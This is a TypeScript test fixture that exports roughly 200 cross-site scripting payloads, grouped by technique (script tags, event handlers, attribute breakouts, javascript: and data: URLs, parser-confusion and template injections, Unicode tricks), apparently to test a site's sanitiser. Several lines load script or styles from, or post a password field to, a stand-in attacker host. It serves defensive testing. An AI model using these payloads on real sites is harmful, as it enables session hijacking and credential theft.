/** One a line, as it is typed. */
const linesOf = (text: string) => text.split('\n').filter((line) => line !== '');

/** One of each kind: what a short run tries. */
const CHOSEN = linesOf(`
<img src=x onerror=xss()>
"><svg onload=xss()>
<script>xss()</script>
javascript:xss()
' autofocus onfocus=xss() x='
<iframe srcdoc="<script>xss()</script>">
data:text/html,<script>xss()</script>
{{constructor.constructor('xss()')()}}
<noscript><p title="</noscript><img src=x onerror=xss()>">
&lt;img src=x onerror=xss()&gt;
<meta http-equiv=refresh content="0;url=https://thief.example/">
https://covers.example/a.png?"><svg/onload=xss()>
`);

const SCRIPTS = linesOf(`
<SCRIPT>xss()</SCRIPT>
<script >xss()</script >
<script/x>xss()</script>
<script src=https://thief.example/x.js></script>
<script src=//thief.example></script>
<script src=data:,xss()></script>
<script type=module>xss()</script>
<script async src="data:text/javascript,xss()"></script>
<scr<script>ipt>xss()</scr</script>ipt>
</title><script>xss()</script>
</textarea><script>xss()</script>
</style><script>xss()</script>
</script><script>xss()</script>
--><script>xss()</script><!--
]]><script>xss()</script>
<svg><script>xss()</script></svg>
<svg><script href=data:,xss() /></svg>
<script>xss()//
<script>xss()<!--
<script nonce=x>xss()</script>
`);

const HANDLERS = linesOf(`
<svg onload=xss()>
<svg/onload=xss()>
<body onload=xss()>
<body onpageshow=xss()>
<img src onerror=xss()>
<img/src/onerror=xss()>
<IMG SRC=x OnErRoR=xss()>
<img src=x:x onerror="xss()">
<img src=x onerror='xss()'>
<img src=x onerror=xss&lpar;&rpar;>
<img src=x onerror=&#120;ss()>
<img srcset=x onerror=xss()>
<image src=x onerror=xss()>
<picture><source srcset=x><img onerror=xss()></picture>
<video src=x onerror=xss()>
<video><source onerror=xss()></video>
<audio src=x onerror=xss()>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()>
<textarea autofocus onfocus=xss()>
<button autofocus onfocus=xss()>x
<a autofocus tabindex=0 onfocus=xss()>x
<p tabindex=0 autofocus onfocusin=xss()>
<details open ontoggle=xss()>
<object data=x onerror=xss()>
<embed src=x onerror=xss()>
<link rel=stylesheet href=x onerror=xss()>
<style onload=xss()></style>
<marquee onstart=xss()>x</marquee>
<iframe onload=xss()>
<frameset onload=xss()>
<b onpointerenter=xss()>x</b>
<b onclick=xss()>x</b>
<svg><animate onbegin=xss() attributeName=x dur=1s>
<svg><set onbegin=xss() attributename=x>
<x contenteditable onblur=xss()>x
<x style=animation-name:x onanimationstart=xss()>
<form onsubmit=xss()><button>x</button></form>
<dialog open onclose=xss()>x</dialog>
<input oninput=xss() value=x>
`);

const BREAKOUTS = linesOf(String.raw`
"><img src=x onerror=xss()>
'><img src=x onerror=xss()>
><img src=x onerror=xss()>
" onmouseover="xss()
' onmouseover='xss()
" autofocus onfocus="xss()
" style="animation-name:x" onanimationstart="xss()
x" onerror="xss()
"/><svg onload=xss()>
"></a><svg onload=xss()>
"></textarea><svg onload=xss()>
</option></select><svg onload=xss()>
</noscript><svg onload=xss()>
</template><svg onload=xss()>
</xmp><svg onload=xss()>
';xss();//
";xss();//
\';xss();//
');xss();//
"+xss()+"
'-xss()-'
\u0027;xss();//
\x3cimg src=x onerror=xss()\x3e
\u003cimg src=x onerror=xss()\u003e
*/xss()/*
`);

const ADDRESSES = linesOf(String.raw`
JaVaScRiPt:xss()
javascript:xss()//https://a.example
javascript://a.example/%0axss()
javascript://%0dxss()
javascript:void(xss())
javascript&colon;xss()
&#106;avascript:xss()
java%0ascript:xss()
%6aavascript:xss()
javascript:/*--></title></style></textarea></script><svg/onload=xss()>*/
vbscript:xss()
VBScript:MsgBox(xss())
livescript:xss()
data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>
data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='xss()'/>
blob:https://thief.example/0190a000-0000-7000-8000-000000000001
filesystem:https://thief.example/temporary/x.html
view-source:javascript:xss()
feed:javascript:xss()
jar:https://thief.example/x.jar!/x.html
intent://thief.example#Intent;scheme=https;end
//thief.example
\\thief.example
/\thief.example
https:\\thief.example
https://github.com@thief.example/
https://github.com:secret@thief.example/
https://covers.example/javascript:xss()
https://covers.example/?next=javascript:xss()#"><img src=x onerror=xss()>
`);

const CONFUSIONS = linesOf(`
<math><mtext><table><mglyph><style><img src=x onerror=xss()>
<svg></p><style><a id="</style><img src=x onerror=xss()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>
<template><img src=x onerror=xss()></template>
<select><template><img src=x onerror=xss()></template></select>
<table><img src=x onerror=xss()></table>
<p/title="</p><img src=x onerror=xss()>">
<!--><img src=x onerror=xss()>-->
<!--!><img src=x onerror=xss()>
<![CDATA[><img src=x onerror=xss()>]]>
<?xml ><img src=x onerror=xss()>
<</p>img src=x onerror=xss()>
<<img src=x onerror=xss()>>
<img """><img src=x onerror=xss()>">
<svg><style><img src=x onerror=xss()></style></svg>
<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.xss()>"></iframe></foreignObject></svg>
<object data=javascript:xss()>
<embed src=javascript:xss()>
<iframe src=javascript:xss()>
<a href=javascript:xss()>click here</a>
<svg><a href=javascript:xss()><text y=20>x</text></a></svg>
<form action=javascript:xss()><button>x</button></form>
<button form=x formaction=javascript:xss()>x
<math href=javascript:xss()>x</math>
<base href=https://thief.example/>
<link rel=stylesheet href=https://thief.example/x.css>
<link rel=prefetch href=https://thief.example/>
<style>@import'https://thief.example/x.css'</style>
<p style="background:url(https://thief.example/x)">
<img src=https://thief.example/seen.png>
<form action=https://thief.example/><input name=password>
<form id=xss><input name=attributes>
<a id=xss href=javascript:xss()>
`);

const TEMPLATES = [
  ...linesOf(`
{{xss()}}
{{$on.constructor('xss()')()}}
{{this.constructor.constructor('xss()')()}}
<%= xss() %>
#{xss()}
[[xss()]]
@{xss()}
*{xss()}
<p v-html="xss()">
<p x-init="xss()">
<p ng-app>{{$eval.constructor('xss()')()}}</p>
<p hx-get=https://thief.example/ hx-trigger=load>
[click](javascript:xss())
![x](x"onerror="xss())
__proto__
&#60;script&#62;xss()&#60;/script&#62;
%3Cscript%3Exss()%3C/script%3E
%253Cscript%253Exss()%253C/script%253E
`),
  `\${xss()}`,
  '<img src=x onerror=xss``>',
  `\`\${xss()}\``,
];

const CHARACTERS = [
  'java\tscript:xss()',
  'java\nscript:xss()',
  '\u0001javascript:xss()',
  '<img src=x\nonerror=xss()>',
  '<img\u000csrc=x\u000conerror=xss()>',
  '<scr\u0000ipt>xss()</scr\u0000ipt>',
  '\u202e>)(ssx=rorreno x=crs gmi<',
  '\u2066<svg onload=xss()>\u2069',
  '\u200b<svg onload=xss()>',
  '\ufeff<svg onload=xss()>',
  '\uff1cscript\uff1exss()\uff1c/script\uff1e',
  '\u{1f984}<svg onload=xss()>\ud800',
  '\u2028<svg onload=xss()>',
  'A\u030a\u0301\u0323\u0300<svg onload=xss()>',
  'https://\u0430pple.example/<svg onload=xss()>',
  'https://covers.example/\u202egnp.exe',
  `<svg onload=xss()>${'\u00e9'.repeat(60)}`,
  `<svg onload=xss()>${'a'.repeat(100_000)}`,
  `${'<b>'.repeat(40)}<svg onload=xss()>`,
];

/**
 * 200 texts of which each tries to make a page of ours run xss(), load something from thief.example, or go away. What is
 * allowed is to point a course's picture at covers.example.
 */
export const PAYLOADS: readonly string[] = [
  ...CHOSEN,
  ...SCRIPTS,
  ...HANDLERS,
  ...BREAKOUTS,
  ...ADDRESSES,
  ...CONFUSIONS,
  ...TEMPLATES,
  ...CHARACTERS,
];
